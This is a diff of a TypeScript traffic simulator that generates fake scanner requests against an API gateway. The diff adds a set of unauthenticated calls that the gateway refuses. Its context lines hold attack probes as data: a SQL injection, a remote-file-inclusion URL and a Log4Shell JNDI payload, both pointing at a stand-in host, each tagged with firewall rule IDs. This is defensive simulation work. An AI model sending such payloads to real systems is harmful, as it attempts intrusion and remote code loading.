@@ -1,7 +1,7 @@
 import { type Answer, answers } from '../answers.ts';
 import { type Client, documentationAddresses } from '../clients.ts';
 import { poisson } from '../distributions.ts';
-import { operations } from '../operations.ts';
+import { type Operation, operations } from '../operations.ts';
 import type { Random } from '../random.ts';
 import { type ApiRequest, newRequest } from '../request.ts';
 import { hourMs, type TimeSpan } from '../time-window.ts';
@@ -28,6 +28,14 @@ const probes: readonly (readonly [target: string, firewallRules: readonly string
   ["/product?id=1'%20or%201=1--", ['942100', '942130']],
   ['/login?next=http://203.0.113.5/shell.txt', ['931100']],
   ['/?x=$%7Bjndi:ldap://203.0.113.5/a%7D', ['944240']],
+];
+
+/** Calls of operations that exist, without what they ask for; API Management refuses them itself. */
+const refusals: readonly (readonly [operation: Operation, target: string, answer: Answer])[] = [
+  [operations.readTransactions, '/settlement/transactions', answers.addressNotAllowed],
+  [operations.readLoyaltyCard, '/loyalty/cards/1', answers.keyMissing],
+  [operations.readOrder, '/orders/1', answers.tokenMissing],
+  [operations.readCustomer, '/customers/1', answers.tokenMissing],
 ];
 
 /** Below the three transactions an hour that make an attack: scanners try one SQL injection and go on. */
@@ -59,6 +67,10 @@ function scan(random: Random, client: Client, startsAtMs: number, requests: ApiR
     // A missing or empty User-Agent matches a rule of little weight of its own.
     const firewallRules = client.userAgent === '' ? [...rules, '920320'] : rules;
     requests.push(newRequest(random, { atMs, target, client, answer: answers.unknownOperation, firewallRules }));
+  }
+  for (const [operation, target, answer] of refusals) {
+    atMs += 300 + random.below(9000);
+    requests.push(newRequest(random, { atMs, operation, target, client, answer }));
   }
 }
 
